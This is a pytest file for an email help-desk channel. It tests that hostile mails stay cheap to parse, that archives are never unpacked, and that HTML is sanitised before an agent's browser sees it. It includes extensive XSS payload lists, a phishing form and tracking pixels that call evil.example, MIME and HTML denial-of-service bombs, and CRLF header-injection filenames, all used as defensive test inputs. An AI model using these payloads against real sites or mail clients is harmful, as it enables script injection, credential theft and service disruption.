"""Mails: anybody may send one, so no mail costs much, and none runs in an agent's window."""

import base64
import io
import re
import zipfile
from functools import partial
from html.parser import HTMLParser

import pytest

from chalicelib.channels.email.fetching import HTML_LIMIT, cleaned
from chalicelib.channels.email.room import EmailRoom
from chalicelib.channels.markup import text_of
from chalicelib.domain import file
from chalicelib.domain.event import Attachment
from chalicelib.entrypoints.receiving import read_event
from chalicelib.gateways.media import disposition
from chalicelib.workflows.networks import FetchError
from infra.local.simulator import mails
from tests.fakes.effort import bounded
from tests.hostile.rooms import TOPIC, furnish, tell

SECONDS = 50.0
"""For one mail: measured 4 under coverage for the slowest; a runaway takes minutes."""

CARE = "care@example.com"
HEAD = (
    b"From: ana@example.net\r\nTo: care@example.com\r\nSubject: Hello\r\n"
    b"Message-ID: <1@example.net>\r\nMIME-Version: 1.0\r\n"
)


@pytest.fixture
def mailbox(house):
    """The house with an address for mail."""
    furnish(house)
    return house


def nested(depth):
    steps = (
        b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (number, number)
        for number in range(depth)
    )
    return HEAD + b"".join(steps) + b"Content-Type: text/plain\r\n\r\nhi\r\n"


def html(body):
    return HEAD + b"Content-Type: text/html; charset=utf-8\r\n\r\n" + body


def plain(body, charset=b"utf-8", encoding=b"8bit"):
    kind = b"Content-Type: text/plain; charset=%s\r\nContent-Transfer-Encoding: %s\r\n\r\n"
    return HEAD + kind % (charset, encoding) + body


def mixed(parts):
    return HEAD + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + parts + b"--b--\r\n"


def zipped():
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("a", bytes(20_000_000))
    return held.getvalue()


ZIP = zipped()
PART = b"--b\r\nContent-Type: text/plain; charset=x%d\r\n\r\n\xff\r\n"
BOMBS = {
    "1,000 parts in each other": nested(1_000),
    "10,000 parts": mixed(b"".join(PART % number for number in range(10_000))),
    "empty parts": mixed(b"--b\r\n" * 15_000),
    "endless parts": mixed(b"--b\r\n" * 300_000),
    "mails in mails": HEAD + b"Content-Type: message/rfc822\r\n\r\n" * 10_000,
    "a header of a megabyte": b"X: " + b"a" * 1_000_000 + b"\r\n" + HEAD + b"\r\nhi",
    "encoded words": b"Subject: " + b"=?utf-8?q?a?= " * 160_000 + b"\r\n" + HEAD + b"\r\nhi",
    "addresses": b"From: " + b'(((((<"@,;' * 100_000 + b"\r\n" + HEAD + b"\r\nhi",
    "references": HEAD + b"References: " + b"<a@b> " * 400_000 + b"\r\n\r\nhi",
    "parameters": HEAD + b"Content-Type: text/plain;" + b" a*0=x;" * 200_000 + b"\r\n\r\nhi",
    "names": HEAD
    + b"Content-Disposition: attachment;"
    + b" filename*0*=x;" * 140_000
    + b"\r\n\r\n",
    "fields without end": HEAD + b"X: y\r\n" * 600_000 + b"\r\nhi",
    "folded lines": HEAD + b"X:" + b"\r\n \r\n ." * 100_000 + b"\r\n\r\nhi",
    "a status without end": HEAD
    + b"Content-Type: multipart/report; boundary=b\r\n\r\n--b\r\n"
    + b"Content-Type: message/delivery-status\r\n\r\n"
    + b"a: b\r\n\r\n" * 400_000,
    "base64": plain(base64.b64encode(bytes(7_000_000)), encoding=b"base64"),
    "base64 of nothing": plain(b"=====\r\n" * 1_000_000, encoding=b"base64"),
    "soft line breaks": plain(b"=\r\n" * 2_000_000, encoding=b"quoted-printable"),
    "a charset's endless name": plain(b"x" * 1_000, charset=b"a" * 100_000),
    "a codec that unpacks": plain(b"x" * 1_000, charset=b"zlib_codec"),
    "a slow codec": plain(b"a-" + b"9" * 900_000, charset=b"PunyCode"),
    "100,000 tags in each other": html(b"<div>" * 100_000),
    "quotes in quotes": html(b"<blockquote>" * 80_000),
    "comments never closed": html(b"<!--" * 250_000),
    "tags never closed": html(b"<a " * 330_000),
    "values never closed": html(b"<a b='" * 160_000),
    "digits": html(b"&#" + b"9" * 900_000 + b";"),
    "list items": html(b"<li>" * 200_000),
    "quoted lines": plain(b"> " * 500_000),
    "introductions": plain(b"On a wrote:\n" * 80_000),
    "empty lines": plain(b"\n" * 900_000),
    "NUL": plain(b"\0" * 900_000),
}


def deliver(house, raw, name="ses-1"):
    house.stored[f"mail/{name}"] = raw
    told = mails.received(raw, name, [CARE], house.parts.now())
    return tell(mails.envelope(told, TOPIC))


def queued(house):
    return [read_event(house.parts, one.body) for one in house.parts.inbox.sent]


@pytest.mark.parametrize("bomb", BOMBS.values(), ids=BOMBS)
def test_a_mail_is_read_or_kept_whole_and_costs_little(mailbox, bomb):
    assert bounded(SECONDS, deliver, mailbox, bomb, afresh=mailbox.parts.blobs.kept.clear) == 0
    if mailbox.parts.inbox.sent:
        assert all(len(event.text) <= 100_000 for event in queued(mailbox))
        return
    ((body, facts),) = mailbox.parts.blobs.kept.values()
    assert body.endswith(bomb)
    assert not facts["reason"].startswith("parser_")


def test_an_archive_is_never_unpacked(mailbox):
    """Its bytes are handed on as they came."""
    attached = b"Content-Type: application/zip; name=a.zip\r\nContent-Transfer-Encoding: base64\r\n"
    raw = HEAD + attached + b"\r\n" + base64.encodebytes(ZIP)
    assert deliver(mailbox, raw) == 0
    (event,) = queued(mailbox)
    assert event.attachments[0].name == "a.zip"
    assert event.attachments[0].size < 2 * len(ZIP)
    fetched = EmailRoom().fetch(
        None, event.attachments[0], 1_000_000, secret={}, places=mailbox.parts.places
    )
    assert fetched.body == ZIP


LETTERS = (
    "",
    "null",
    "[]",
    '"x"',
    "[" * 100_000,
    '{"Message":' + '{"Message":' * 5_000 + "1" + "}" * 5_001,
    '{"Message":"' + '{\\"Message\\":' * 5_000 + '"}',
    '{"Message":7,"eventType":["Received"]}',
    '{"eventType":"TEXT_DELIVERED"}',
    '{"notificationType":"Received","mail":[]}',
    '{"notificationType":"Received","mail":{"messageId":"../../x"},"receipt":{"action":[]}}',
    '{"notificationType":"Bounce","mail":{"messageId":' + "9" * 5_000 + "}}",
    '{"originationNumber":{"a":1}}',
    '{"a":' + "1" * 4_000 + "}",
)


@pytest.mark.parametrize("letter", LETTERS, ids=range(len(LETTERS)))
def test_an_odd_notice_is_kept_ignored_or_comes_again(mailbox, letter):
    assert bounded(1, tell, letter, afresh=mailbox.parts.blobs.kept.clear) in (0, 1)
    assert mailbox.parts.inbox.sent == []
    for _, facts in mailbox.parts.blobs.kept.values():
        assert not facts["reason"].startswith("parser_")


MARKUP = {
    "comments": "<!--",
    "declarations": "<!",
    "tags": "<a ",
    "closed tags": "</a ",
    "quotes": "<a b='",
    "double quotes": '<a "',
    "entities": "&#",
    "half entities": "&lt",
    "nested": "<p>",
    "scripts": "<script>",
    "instructions": "<?",
    "data": "<![CDATA[",
    "less": "<",
}


@pytest.mark.parametrize("piece", MARKUP.values(), ids=MARKUP)
def test_no_markup_of_a_post_or_a_mail_holds_up_its_reader(piece):
    """The standard library's parser takes half an hour over tags that are never closed."""
    bounded(5, text_of, (piece * 100_000)[:400_000])


# -- what an agent's browser is given ------------------------------------------------------------

URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "javascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://x/1",
    "file:///etc/passwd",
    "filesystem:https://x/1",
    "livescript:x",
    "mocha:x",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
)
HANDLERS = (
    "onerror onload onclick onmouseover onfocus onblur onanimationstart ontoggle onpointerenter "
    "onbegin onstart onwheel oncopy ondrag onscroll onsubmit onbeforeinput onpaste onhashchange"
).split()
FORMS = [
    *(f'<a href="{url}">x</a>' for url in URLS),
    *(f'<img src="{url}">' for url in URLS),
    *(f"<img src=x {handler}=alert(1)>" for handler in HANDLERS),
    *(f'<p/{handler}="alert(1)">x</p>' for handler in HANDLERS),
    *(
        f"<{tag} src=https://evil.example/x onload=alert(1)>x</{tag}>"
        for tag in "script iframe frame embed object applet video audio source track input".split()
    ),
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<style>@import 'https://evil.example/x';</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<table background='https://evil.example/x'><tr><td background='//evil.example/y'>x</table>",
    "<link rel=stylesheet href=https://evil.example/x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<form action=https://evil.example/><input name=password><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<img src=//evil.example/pixel.gif>",
    "<img srcset='https://evil.example/a 1x'>",
    "<img src=x lowsrc='https://evil.example/a' dynsrc='https://evil.example/b'>",
    "<img src='cid:x' longdesc='https://evil.example/'>",
    "<picture><source srcset=https://evil.example/a></picture>",
    "<video poster=https://evil.example/a></video>",
    "<body onload=alert(1) background=https://evil.example/x>",
    "<a href='https://ok.example' ping='https://evil.example/'>x</a>",
    "<a href='https://ok.example' target=_top onclick=alert(1)>x</a>",
    "<a href=x style=position:fixed;top:0;left:0;width:100%>x</a>",
    "<p class=trusted id=desk name=desk data-action=delete>x</p>",
    "<div contenteditable onfocus=alert(1) autofocus tabindex=0>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<xss onclick=alert(1)>x</xss>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<title><script>alert(1)</script></title>",
    "<textarea><script>alert(1)</script></textarea>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<p title=\"x' onclick=alert(1) '\">x</p>",
    '<p title="&quot; onclick=alert(1) &quot;">x</p>',
    "<a href=\"https://x/'onclick='alert(1)\">x</a>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "\u3008script\u3009alert(1)",
    "<a\u2028href=javascript:alert(1)>x</a>",
    "<img src=x:alert(1) onerror\n=\nalert(1)>",
    "<<script>alert(1)//<</script>",
    "<b onclick=alert(1)//>x</b>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<font color='red\" onclick=alert(1)'>x</font>",
]
ALLOWED = set(
    "align colspan dir height lang rowspan title valign width href src alt color rel".split()
)
SAFE = re.compile(r"(https?:|mailto:|tel:|cid:|[^:]*$)", re.IGNORECASE)


class Browser(HTMLParser):
    """Collects what a browser would act on."""

    def __init__(self):
        super().__init__()
        self.tags, self.attributes = set(), []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def shown(markup):
    browser = Browser()
    browser.feed(markup)
    browser.close()
    return browser


def test_there_are_more_than_a_hundred_forms():
    assert len(set(FORMS)) > 100


def test_what_is_harmless_in_a_mail_stays():
    """Otherwise a cleaner that returns nothing would pass."""
    kept = cleaned(
        '<p dir="rtl">a <b>b</b> <a href="https://x.example/">c</a><img src="cid:1"></p>'
    )
    assert "<b>b</b>" in kept
    assert 'href="https://x.example/"' in kept
    assert 'src="cid:1"' in kept


@pytest.mark.parametrize("form", FORMS, ids=range(len(FORMS)))
def test_nothing_of_a_mail_runs_calls_out_or_asks_for_anything(mailbox, form):
    """Through the stored mail and back, as an agent's browser gets it."""
    raw = html(f"<p>before</p>{form}<p>after</p>".encode("utf-8", "replace"))
    mailbox.stored["mail/ses-1"] = raw
    part = Attachment("html", media_id="mail/ses-1#")
    got = EmailRoom().fetch(None, part, HTML_LIMIT, secret={}, places=mailbox.parts.places).body
    found = shown(got.decode())
    harmful = "script style iframe frame object embed form input button meta link base svg math"
    assert not found.tags & set(f"{harmful} template video audio picture source body".split())
    for tag, name, value in found.attributes:
        assert name in ALLOWED, (tag, name)
        if name in ("href", "src"):
            assert SAFE.match(value.strip()), value
        assert (tag, name) != ("img", "src") or value.lower().startswith("cid:"), value
    assert "before" in got.decode()


@pytest.mark.parametrize("form", FORMS, ids=range(len(FORMS)))
def test_the_words_of_a_mail_are_words(mailbox, form):
    """A message's text is text: JSON with `nosniff`, and no part of it is HTML to anybody."""
    assert deliver(mailbox, html(form.encode("utf-8", "replace"))) == 0
    (event,) = queued(mailbox)
    assert not re.search(r"<(script|iframe|svg|img|form)[\s>/]", event.text.lower()) or "&" in form


def test_markup_that_would_hold_up_the_cleaner_is_not_shown(mailbox):
    for body in (b"<div>" * 10_000, b"<b>" * 700_000):
        mailbox.stored["mail/ses-1"] = html(body)
        part = Attachment("html", media_id="mail/ses-1#")
        fetch = partial(EmailRoom().fetch, secret={}, places=mailbox.parts.places)
        with pytest.raises(FetchError, match="html_intricate"):
            bounded(5, fetch, None, part, 10_000_000)


RUNS = {
    "html": (b"<!doctype html><script>alert(1)</script>", "text/html"),
    "xhtml": (b"<html xmlns='x'><body onload=alert(1)>", "application/xhtml+xml"),
    "svg": (b"<svg xmlns='x' onload='alert(1)'>", "image/svg+xml"),
    "svg behind xml": (b"<?xml version='1.0'?>\n<svg onload='alert(1)'>", "image/svg+xml"),
    "html as picture": (b"<script>alert(1)</script>", "image/png"),
    "html as text": (b"<html><script>alert(1)</script>", "text/plain"),
    "script": (b"alert(1)", "text/javascript"),
    "xml": (b"<?xml version='1.0'?><x/>", "text/xml"),
    "UTF-16": ("<script>alert(1)</script>".encode("utf-16"), "text/html"),
    "odd type": (b"x", "text/html; charset=utf-7"),
    "two types": (b"x", "image/png, text/html"),
    "a line break": (b"x", "image/png\r\nContent-Type: text/html"),
    "shtml": (b"x", "multipart/x-mixed-replace"),
}


@pytest.mark.parametrize("name", ["a.html", "a.svg", "a.png", 'a".png', "a\r\nX: y.png", "é.png"])
@pytest.mark.parametrize(("body", "declared"), RUNS.values(), ids=RUNS)
def test_no_file_is_shown_in_the_browser_that_it_would_run_in(body, declared, name):
    """The lesson of a help desk that kept mails as .html files and showed them itself."""
    mime = file.mime_type(body, declared)
    assert file.served_as(mime) in {file.UNKNOWN, "text/plain"}
    told = disposition(name, file.served_as(mime))
    assert told.startswith("attachment")
    assert declared == "image/png" or disposition(name, declared).startswith("attachment")
    assert not re.search(r"[\r\n\0]", told)
